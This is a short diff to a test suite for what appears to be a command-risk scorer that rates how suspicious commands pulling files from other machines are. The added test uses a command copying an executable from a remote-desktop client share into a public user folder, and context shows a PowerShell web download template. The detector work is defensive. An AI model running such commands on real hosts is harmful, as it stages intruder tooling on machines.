@@ -13,6 +13,13 @@ describe("what comes from another machine", () => {
     expect(bare.text).toContain("bare IP address");
   });
 
+  it("takes the drives of a remote session for those of a machine outside", () => {
+    const outside = verdict("cmd /c copy \\\\tsclient\\c\\kit\\a.exe C:\\Users\\Public\\a.exe");
+    const ofSite = verdict("cmd /c copy \\\\files02\\c\\kit\\a.exe C:\\Users\\Public\\a.exe");
+    expect(outside.score).toBeGreaterThan(ofSite.score);
+    expect(outside.text).not.toContain("of the site");
+  });
+
   it("weighs less where it runs nothing by itself, unless the machine has no name", () => {
     const fetch = (host: string, name: string) =>
       verdict(`powershell Invoke-WebRequest -Uri https://${host}/${name} -OutFile ${name}`).score;
